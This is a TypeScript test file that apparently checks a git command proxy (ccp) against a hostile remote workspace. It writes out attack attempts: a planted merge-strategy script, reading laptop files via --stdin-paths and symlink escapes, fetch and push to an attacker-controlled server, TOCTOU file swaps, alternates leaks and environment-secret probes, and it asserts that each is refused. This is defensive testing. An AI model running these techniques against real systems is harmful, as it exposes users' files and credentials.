/**
 * Attack (workspace -> the user's laptop), issue 25: what today's deny-list let through, through the real
 * proxy path (the wrapper in a workspace, the SSH connection, CommandProxy, the user's real git):
 * 1. a program of the workspace's run by git (cherry-pick --strategy=x/evil execs git-merge-x/evil);
 * 2. a laptop file read through stdin (hash-object -w --stdin-paths);
 * 4. a laptop file reached through links whose `..` the check resolved by hand;
 * 5. the user's credentials and keys used for URLs the workspace names, and signing it asked for;
 * 6. files checked once and read again by git after the workspace swapped them;
 * 9. ccp's own secrets in the environment of proxied commands; calls and stdin without bounds.
 * Each must be refused (status 126, a `ccp:` line saying why) or come to nothing.
 */
import assert from 'node:assert/strict';
import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { Client } from 'ssh2';
import { needs } from '../../../../test/support/needs.js';
import { CommandProxy, WRAPPER_DIR } from '../../src/command-proxy.js';
import { KnownHosts } from '../../src/known-hosts.js';
import { connectSsh, execCollect, shellQuote } from '../../src/ssh-connection.js';
import { startLocalSshd } from '../helpers/local-sshd.js';

describe('attack: the workspace gets around the proxied git policy (issue 25)', {
  skip: needs('git'),
}, () => {
  const work = mkdtempSync(path.join(tmpdir(), 'ccp-cli-git-allow-'));
  const workspaceHome = path.join(work, 'workspace-home');
  const laptopHome = path.join(work, 'laptop-home');
  /** The folder ccp mounts: a repository with a remote, `origin`, that nothing answers. */
  const mounted = path.join(work, 'mounted');
  const secret = path.join(work, 'secret.txt');
  const secretText = 'the-laptop-secret\n';
  /** Programs planted or configured append what they saw here. */
  const pwned = path.join(work, 'pwned');
  /** The user's own ssh command (their global core.sshCommand): records its arguments and environment. */
  const sshCalls = path.join(work, 'ssh-calls');
  const signed = path.join(work, 'signed');
  const saved = {
    HOME: process.env.HOME,
    XDG_CONFIG_HOME: process.env.XDG_CONFIG_HOME,
    CCP_PASSWORD: process.env.CCP_PASSWORD,
  };
  let sshd: Awaited<ReturnType<typeof startLocalSshd>>;
  let client: Client;
  /** A server of the workspace's choosing: every connection the laptop makes to it is counted. */
  let attacker: Server;
  let attackerPort = 0;
  let attackerConnections = 0;
  const flippers: ChildProcess[] = [];

  const git = (cwd: string, ...args: string[]) => execFileSync('git', args, { cwd }).toString();
  const inWorkspace = (cwd: string, command: string, input?: string) =>
    execCollect(client, `cd ${shellQuote(cwd)} && PATH="${WRAPPER_DIR}:$PATH" && ${command}`, input);
  const assertRefused = (result: { code: number; stderr: string }, why: RegExp) => {
    assert.equal(result.code, 126, result.stderr);
    assert.match(result.stderr, /^ccp: /);
    assert.match(result.stderr, why);
  };
  const assertNothingRan = () =>
    assert.equal(existsSync(pwned), false, existsSync(pwned) ? readFileSync(pwned, 'utf8') : '');
  const secretBlob = () =>
    execFileSync('git', ['hash-object', '--stdin'], { input: secretText }).toString().trim();
  const stored = (repo: string, object: string) => {
    try {
      execFileSync('git', ['cat-file', '-e', object], { cwd: repo, stdio: 'ignore' });
      return true;
    } catch {
      return false;
    }
  };
  /** Swaps `file` between what `a` and `b` write, in a process of its own, until stopped (60 s at most). */
  const flip = (cwd: string, a: string, b: string) => {
    const child = spawn(
      'bash',
      ['-c', `end=$((SECONDS+60)); while [ $SECONDS -lt $end ]; do ${a}; ${b}; done`],
      {
        cwd,
        stdio: 'ignore',
      },
    );
    flippers.push(child);
    return () => child.kill();
  };

  before(async () => {
    for (const dir of [workspaceHome, laptopHome, mounted]) mkdirSync(dir);
    process.env.HOME = laptopHome;
    delete process.env.XDG_CONFIG_HOME;
    process.env.CCP_PASSWORD = 'the-login-password';
    const recorder = path.join(work, 'ssh-recorder');
    writeFileSync(recorder, `#!/bin/sh\n{ echo "ARGS $*"; env; } >>${shellQuote(sshCalls)}\nexit 1\n`, {
      mode: 0o755,
    });
    const signer = path.join(work, 'signer');
    writeFileSync(signer, `#!/bin/sh\necho "$*" >>${shellQuote(signed)}\nexit 1\n`, { mode: 0o755 });
    writeFileSync(
      path.join(laptopHome, '.gitconfig'),
      `[user]\n\tname = Laptop User\n\temail = user@laptop\n\tsigningKey = ABCDEF\n` +
        `[core]\n\tsshCommand = ${recorder}\n[gpg]\n\tprogram = ${signer}\n` +
        '[credential]\n\thelper = store --file=/the-users-token-store\n',
    );
    writeFileSync(secret, secretText);
    git(mounted, 'init', '-q', '-b', 'main');
    writeFileSync(path.join(mounted, 'a.txt'), 'a\n');
    git(mounted, 'add', '.');
    git(mounted, 'commit', '-qm', 'the-first-commit');
    writeFileSync(path.join(mounted, 'a.txt'), 'b\n');
    git(mounted, 'commit', '-qam', 'the-second-commit');
    git(mounted, 'remote', 'add', 'origin', 'ssh://127.0.0.1:1/nothing.git');

    attacker = createServer((socket) => {
      attackerConnections++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    attackerPort = (attacker.address() as { port: number }).port;
    sshd = await startLocalSshd({ PATH: process.env.PATH, HOME: workspaceHome });
    client = await connectSsh(
      { host: '127.0.0.1', port: sshd.port, username: 'u', password: 'p' },
      new KnownHosts(path.join(work, 'known_hosts')),
    );
    const proxy = new CommandProxy(['git', 'printenv'], mounted);
    const port = await proxy.listen(client);
    assert.equal((await execCollect(client, proxy.installScript(port))).code, 0);
  });

  after(() => {
    for (const child of flippers) child.kill();
    client?.end();
    sshd?.close();
    attacker?.close();
    for (const [name, value] of Object.entries(saved)) {
      if (value === undefined) delete process.env[name];
      else process.env[name] = value;
    }
    rmSync(work, { recursive: true, force: true });
  });

  it('1: runs no merge strategy but the built-in ones (a strategy with a slash is a file of the folder)', async () => {
    mkdirSync(path.join(mounted, 'git-merge-x'));
    writeFileSync(
      path.join(mounted, 'git-merge-x', 'evil'),
      `#!/bin/sh\necho strategy >>${shellQuote(pwned)}\n`,
    );
    chmodSync(path.join(mounted, 'git-merge-x', 'evil'), 0o755);
    const attempts: [string, RegExp][] = [
      ['git cherry-pick --strategy=x/evil HEAD~1', /--strategy x\/evil is refused: only built-in strategies/],
      ['git revert --strategy x/evil HEAD', /--strategy x\/evil is refused/],
      ['git merge -s x/evil HEAD~1', /-s x\/evil is refused/],
      ['git rebase -sx/evil HEAD~1', /-s x\/evil is refused/],
      ['git pull --rebase -s x/evil origin main', /-s x\/evil is refused/],
    ];
    for (const [command, why] of attempts) assertRefused(await inWorkspace(mounted, command), why);
    // The options a stopped cherry-pick saved in .git, which the workspace can rewrite, are not read again.
    const head = git(mounted, 'rev-parse', 'HEAD').trim();
    const sequencer = path.join(mounted, '.git', 'sequencer');
    mkdirSync(sequencer);
    writeFileSync(path.join(sequencer, 'head'), `${head}\n`);
    writeFileSync(path.join(sequencer, 'abort-safety'), `${head}\n`);
    writeFileSync(path.join(sequencer, 'todo'), `pick ${git(mounted, 'rev-parse', 'HEAD~1').trim()} x\n`);
    writeFileSync(path.join(sequencer, 'opts'), '[options]\n\tstrategy = x/evil\n');
    assertRefused(await inWorkspace(mounted, 'git cherry-pick --continue'), /--continue is refused/);
    rmSync(sequencer, { recursive: true });
    // What still works: a built-in strategy.
    const builtIn = await inWorkspace(mounted, 'git merge -q -s ort HEAD~1');
    assert.equal(builtIn.code, 0, builtIn.stderr);
    rmSync(path.join(mounted, 'git-merge-x'), { recursive: true });
    assertNothingRan();
  });

  it('2: reads no file named on stdin', async () => {
    const result = await inWorkspace(mounted, 'git hash-object -w --stdin-paths', `${secret}\n`);
    assertRefused(result, /--stdin-paths is refused/);
    assert.equal(stored(mounted, secretBlob()), false, 'the secret is in the folder’s objects');
    // Stdin itself still hashes.
    const hashed = await inWorkspace(mounted, 'git hash-object --stdin', 'hello');
    assert.equal(hashed.code, 0, hashed.stderr);
  });

  it('4: follows links the way the kernel does: `..` after a link leaves the folder', async () => {
    const links = path.join(mounted, 'd');
    mkdirSync(links);
    symlinkSync('..', path.join(links, 'up'));
    // Seen by hand (`up/..` dropped), this is d/secret.txt, the decoy; the kernel reaches ../secret.txt.
    symlinkSync('up/../secret.txt', path.join(links, 'key'));
    writeFileSync(path.join(links, 'secret.txt'), 'a decoy\n');
    assert.equal(readFileSync(path.join(links, 'key'), 'utf8'), secretText);
    assertRefused(
      await inWorkspace(mounted, 'git hash-object -w d/key'),
      /d\/key leads outside the mounted folder/,
    );
    assertRefused(
      await inWorkspace(mounted, 'git commit -q --allow-empty -F d/key'),
      /d\/key leads outside the mounted folder/,
    );
    assert.equal(stored(mounted, secretBlob()), false, 'the secret is in the folder’s objects');
    assert.doesNotMatch(git(mounted, 'log', '-1', '--format=%B'), /the-laptop-secret/);
    rmSync(links, { recursive: true });
  });

  it('5: reaches only the remotes recorded when ccp started, and signs only when allowed', async () => {
    const attempts: [string, RegExp][] = [
      [
        `git fetch http://127.0.0.1:${attackerPort}/org/private '+refs/*:refs/x/*'`,
        /name a remote this repository had/,
      ],
      [`git push ssh://127.0.0.1:${attackerPort}/repo :main`, /name a remote this repository had/],
      [`git ls-remote ssh://127.0.0.1:${attackerPort}/repo`, /name a remote this repository had/],
      [`git pull http://127.0.0.1:${attackerPort}/repo main`, /name a remote this repository had/],
      [
        'git fetch origin +refs/heads/*:refs/heads/*',
        /fetched refs may only be written under refs\/remotes\/origin\//,
      ],
      ['git push origin :main', /deleting a remote branch is not run/],
      ['git push origin +main', /forced pushes are not run/],
      ['git push --force origin main', /--force is refused/],
      ['git commit --allow-empty -S -m signed', /-S is refused: signing with your key is off/],
      ['git tag -s v1 -m signed', /-s is refused: signing with your key is off/],
    ];
    for (const [command, why] of attempts) assertRefused(await inWorkspace(mounted, command), why);
    // The workspace points origin elsewhere after ccp started: the recorded URL is used.
    git(mounted, 'remote', 'set-url', 'origin', `ssh://127.0.0.1:${attackerPort}/repo`);
    const fetch = await inWorkspace(mounted, 'git fetch origin');
    assert.notEqual(fetch.code, 0);
    git(mounted, 'remote', 'set-url', 'origin', 'ssh://127.0.0.1:1/nothing.git');
    // The repository asks for signatures on every commit: none is made.
    git(mounted, 'config', 'commit.gpgSign', 'true');
    const commit = await inWorkspace(mounted, 'git commit -q --allow-empty -m unsigned');
    assert.equal(commit.code, 0, commit.stderr);
    git(mounted, 'config', '--unset', 'commit.gpgSign');
    assert.equal(attackerConnections, 0, 'the laptop connected to the workspace’s server');
    const calls = existsSync(sshCalls) ? readFileSync(sshCalls, 'utf8') : '';
    assert.doesNotMatch(calls, new RegExp(`ARGS .*${attackerPort}`));
    assert.match(calls, /ARGS .*127\.0\.0\.1/, 'the recorded origin was fetched with the user’s ssh command');
    assert.equal(existsSync(signed), false, existsSync(signed) ? readFileSync(signed, 'utf8') : '');
  });

  it('6: what git reads is what was checked, however fast the workspace swaps files', async () => {
    writeFileSync(path.join(mounted, 'innocent'), 'an innocent message\n');
    const stop = flip(mounted, 'ln -sfn ../secret.txt msg', 'cp innocent msg.new && mv -f msg.new msg');
    for (let attempt = 0; attempt < 30; attempt++) {
      await inWorkspace(mounted, 'git commit -q --allow-empty -F msg');
    }
    stop();
    assert.doesNotMatch(git(mounted, 'log', '-40', '--format=%B'), /the-laptop-secret/);

    const privateRepo = path.join(work, 'private');
    mkdirSync(privateRepo);
    git(privateRepo, 'init', '-q', '-b', 'main');
    git(privateRepo, 'commit', '-q', '--allow-empty', '-m', 'private-history');
    const privateCommit = git(privateRepo, 'rev-parse', 'HEAD').trim();
    const borrowing = path.join(mounted, 'borrowing');
    mkdirSync(borrowing);
    git(borrowing, 'init', '-q', '-b', 'main');
    git(borrowing, 'commit', '-q', '--allow-empty', '-m', 'own');
    const info = path.join(borrowing, '.git', 'objects', 'info');
    writeFileSync(path.join(work, 'alternates'), `${privateRepo}/.git/objects\n`);
    const stopAlternates = flip(
      info,
      `cp ${shellQuote(path.join(work, 'alternates'))} alternates`,
      'rm -f alternates',
    );
    let leaked = '';
    for (let attempt = 0; attempt < 30; attempt++) {
      leaked += (await inWorkspace(borrowing, `git cat-file -p ${privateCommit}`)).stdout;
    }
    stopAlternates();
    assert.doesNotMatch(leaked, /private-history/);
  });

  it('9: keeps ccp’s secrets from proxied commands and bounds calls, arguments and stdin', async () => {
    const printed = await inWorkspace(mounted, 'printenv');
    assert.equal(printed.code, 0, printed.stderr);
    assert.doesNotMatch(printed.stdout, /CCP_PASSWORD|the-login-password/);
    rmSync(sshCalls, { force: true });
    await inWorkspace(mounted, 'git fetch origin');
    const seen = readFileSync(sshCalls, 'utf8');
    assert.match(seen, /^HOME=/m, 'the user’s ssh command ran');
    assert.doesNotMatch(seen, /CCP_PASSWORD|the-login-password/);

    // Settings read through git config are the repository's own, never the user's helpers.
    const settings = await inWorkspace(mounted, 'git config --list');
    assert.equal(settings.code, 0, settings.stderr);
    assert.doesNotMatch(settings.stdout, /the-users-token-store|credential/);

    const parallel = await inWorkspace(
      mounted,
      'for i in $(seq 12); do (sleep 3 | git hash-object --stdin >/dev/null 2>err.$i) & done; wait; cat err.*; rm -f err.*',
    );
    assert.match(parallel.stdout, /ccp: 8 commands already run on your machine/);

    const long = await inWorkspace(
      mounted,
      'a=$(head -c 100000 /dev/zero | tr "\\0" x); git log $a $a $a $a $a $a $a $a $a $a $a',
    );
    assertRefused(long, /the arguments are longer than 1048576 bytes/);

    const flood = await inWorkspace(mounted, 'head -c 70000000 /dev/zero | git hash-object --stdin');
    assert.match(flood.stderr, /ccp: stdin is cut at 67108864 bytes/);
  });
});
